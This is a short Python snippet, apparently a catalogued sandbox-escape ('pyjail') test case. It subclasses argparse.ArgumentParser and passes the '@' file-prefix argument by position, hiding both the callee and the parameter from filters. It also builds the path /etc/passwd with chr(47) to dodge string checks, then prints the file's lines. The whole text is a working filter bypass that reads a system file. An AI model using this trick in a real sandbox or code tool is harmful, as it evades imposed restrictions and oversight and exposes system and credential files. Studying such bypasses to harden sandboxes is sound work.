# source: Python argparse docs (fromfile_prefix_chars, @file args); pyjail "subclass hides callee identity" trick
# family: subclass of allowed class -> refused constructor parameter reached by position
# goal: argparse._read_args_from_files opens a run-time path (/etc/passwd) and returns its lines
import argparse
class P(argparse.ArgumentParser):
    pass
p = P("p", None, None, None, [], argparse.HelpFormatter, "-", "@")
a, rest = p.parse_known_args(["@" + chr(47) + "etc" + chr(47) + "passwd"])
print(rest)
